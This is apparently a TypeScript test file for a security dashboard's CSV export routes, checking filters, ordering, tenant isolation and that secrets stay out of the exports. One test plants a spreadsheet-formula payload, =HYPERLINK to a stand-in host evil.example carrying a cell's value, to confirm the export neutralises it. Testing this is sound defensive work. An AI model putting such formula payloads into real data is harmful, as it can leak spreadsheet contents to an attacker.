import assert from 'node:assert/strict'
import { after, before, describe, it } from 'node:test'
import { csvOf } from '../../../../csv-helpers.js'
import { assertBadRequest, assertNotFound, buildDetectApp, type DetectApp } from '../detect-fixtures.js'

/** Every page of a list route, in order. */
async function allPages<T>(t: DetectApp, url: string, limit = 200): Promise<T[]> {
  const out: T[] = []
  for (let offset = 0; ; offset += limit) {
    const page = (await t.get(`${url}${url.includes('?') ? '&' : '?'}limit=${limit}&offset=${offset}`)).json()
    out.push(...page.results)
    if (out.length >= page.count) return out
  }
}

/** The DETECT tables as CSV (`…/export.csv`): the same filters and orderings as their lists. */
describe('CSV exports of the DETECT tables', () => {
  let t: DetectApp
  let tenant: string
  before(async () => {
    t = await buildDetectApp()
    tenant = `/api/v1/tenants/${t.demoTenant}`
  })
  after(async () => {
    await t.close()
  })

  it('alerts: a filtered, ordered export holds exactly the rows the list shows, in its order', async () => {
    const query = 'status=OPEN&priority=Critical,High&ordering=-priority'
    const listed = await allPages<Record<string, string | null>>(t, `${tenant}/alerts/?${query}`)
    assert.ok(listed.length > 10)
    const { header, rows } = csvOf(await t.get(`${tenant}/alerts/export.csv?${query}`), /alerts/)
    assert.deepEqual(header, [
      'uid',
      'name',
      'status',
      'priority',
      'device',
      'device_hostname',
      'elastic_rule_name',
      'elastic_alert_id',
      'elastic_alert_created_at',
      'updated_at'
    ])
    assert.deepEqual(
      rows.map((row) => [
        row.uid,
        row.name,
        row.status,
        row.priority,
        row.device,
        row.device_hostname,
        row.elastic_alert_created_at
      ]),
      listed.map((a) => [
        a.uid,
        a.name,
        a.status,
        a.priority,
        a.device ?? '',
        a.device_hostname ?? '',
        a.elastic_alert_created_at
      ])
    )
    const detail = (await t.get(`${tenant}/alerts/${rows[0]!.uid}/`)).json()
    assert.equal(rows[0]!.elastic_rule_name, detail.elastic_rule_name)
    assert.equal(rows[0]!.updated_at, detail.updated_at)
    // No filter: every alert of the tenant, none of the other's.
    const all = csvOf(await t.get(`${tenant}/alerts/export.csv`), /alerts/).rows
    assert.equal(all.length, (await t.get(`${tenant}/alerts/?limit=1`)).json().count)
    const theirs = (await t.get(`/api/v1/tenants/${t.otherTenant}/alerts/?limit=200`, t.other)).json().results
    const uids = new Set(all.map((row) => row.uid))
    assert.ok(theirs.every((a: { uid: string }) => !uids.has(a.uid)))
  })

  it('alerts: text a spreadsheet would run comes out guarded, read back as text', async () => {
    const key = (await t.send('POST', `${tenant}/api-keys/`, { name: 'Elastic' })).json().key
    const name = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
    const ingest = await t.app.inject({
      method: 'POST',
      url: `${tenant}/alerts/ingest/`,
      headers: { 'x-api-key': key },
      payload: {
        '@timestamp': '2026-11-20T08:15:42.118Z',
        'kibana.alert.uuid': 'csv-injection-1',
        'kibana.alert.rule.name': name
      }
    })
    assert.equal(ingest.json().created, 1, ingest.body)
    const response = await t.get(`${tenant}/alerts/export.csv?search=HYPERLINK`)
    const { rows } = csvOf(response, /alerts/)
    assert.deepEqual(
      rows.map((row) => row.name),
      [`'${name}`]
    )
    assert.ok(response.body.includes(`"'=HYPERLINK(""http://evil.example/?""&A1,""Open"")"`))
  })

  it('devices: filters and ordering as the list', async () => {
    const query = 'device_type=linux&has_high_risk=true&ordering=-cve_count'
    const listed = await allPages<Record<string, unknown>>(t, `${tenant}/devices/?${query}`)
    assert.ok(listed.length > 0)
    const { header, rows } = csvOf(await t.get(`${tenant}/devices/export.csv?${query}`), /devices/)
    assert.deepEqual(header.slice(0, 3), ['uid', 'hostname', 'device_type'])
    assert.deepEqual(
      rows.map((row) => [
        row.uid,
        row.hostname,
        row.risk_score,
        Number(row.cve_count),
        Number(row.kev_count),
        row.last_connected
      ]),
      listed.map((d) => [d.uid, d.hostname, d.risk_score, d.cve_count, d.kev_count, d.last_connected ?? ''])
    )
  })

  it("packages and accounts of a device: as the device page shows them; another tenant's device is 404", async () => {
    const uid = await t.deviceOf(t.demoTenant)
    const query = 'ordering=-score&search=lib'
    const listed = await allPages<Record<string, unknown>>(t, `${tenant}/devices/${uid}/packages/?${query}`, 500)
    assert.ok(listed.length > 0)
    const device = (await t.get(`${tenant}/devices/${uid}/`)).json()
    const packages = csvOf(
      await t.get(`${tenant}/devices/${uid}/packages/export.csv?${query}`),
      new RegExp(`${device.hostname}-packages`)
    )
    assert.deepEqual(
      packages.rows.map((row) => [row.name, row.version, row.cve_id, row.score === '' ? null : Number(row.score), row.source]),
      listed.map((p) => [p.name, p.version, p.cve_id ?? '', p.score, p.source ?? ''])
    )
    const accounts = csvOf(await t.get(`${tenant}/devices/${uid}/accounts/export.csv`), new RegExp(`${device.hostname}-accounts`))
    assert.deepEqual(accounts.header, ['username', 'uid', 'group_name', 'home_directory', 'shell', 'privileges'])
    assert.deepEqual(
      accounts.rows,
      device.user_accounts.map((a: Record<string, unknown>) => ({ ...a, uid: String(a.uid) }))
    )
    const theirs = await t.deviceOf(t.otherTenant)
    for (const path of ['packages/export.csv', 'accounts/export.csv']) {
      assertNotFound(await t.get(`${tenant}/devices/${theirs}/${path}`), path)
      assertNotFound(await t.get(`/api/v1/tenants/${t.otherTenant}/devices/${theirs}/${path}`), path)
      assertNotFound(await t.get(`${tenant}/devices/not-a-uid/${path}`), path)
    }
  })

  it('provision tokens and API keys: the lists as CSV, never a secret', async () => {
    const tokens = (await t.get(`${tenant}/provision-tokens/`)).json().results
    const tokenCsv = await t.get(`${tenant}/provision-tokens/export.csv`)
    const { header, rows } = csvOf(tokenCsv, /provision-tokens/)
    assert.deepEqual(header, ['uid', 'name', 'enabled', 'created_by', 'created_at'])
    assert.deepEqual(
      rows,
      tokens.map((x: Record<string, unknown>) => ({
        uid: x.uid,
        name: x.name,
        enabled: String(x.enabled),
        created_by: x.created_by,
        created_at: x.created_at
      }))
    )
    for (const token of tokens) assert.ok(!tokenCsv.body.includes(token.token), 'the enrolment secret stays on the page')
    const keys = (await t.get(`${tenant}/api-keys/`)).json().results
    const keyRows = csvOf(await t.get(`${tenant}/api-keys/export.csv`), /api-keys/).rows
    assert.deepEqual(
      keyRows,
      keys.map((k: Record<string, unknown>) => ({ ...k, revoked: String(k.revoked) }))
    )
  })

  it('bad filters → 400 JSON before any byte; no session → 401; another tenant → 404', async () => {
    for (const url of [
      `${tenant}/alerts/export.csv?priority=Urgent`,
      `${tenant}/alerts/export.csv?ordering=colour`,
      `${tenant}/alerts/export.csv?limit=10`,
      `${tenant}/devices/export.csv?risk=Extreme`,
      `${tenant}/provision-tokens/export.csv?search=x`
    ]) {
      assertBadRequest(await t.get(url), url)
    }
    assert.match((await t.get(`${tenant}/alerts/export.csv?priority=Urgent`)).json().detail, /Allowed values: Critical/)
    assert.equal((await t.app.inject({ url: `${tenant}/alerts/export.csv` })).statusCode, 401)
    for (const path of ['alerts', 'devices', 'provision-tokens', 'api-keys']) {
      assertNotFound(await t.get(`/api/v1/tenants/${t.otherTenant}/${path}/export.csv`), path)
    }
  })
})
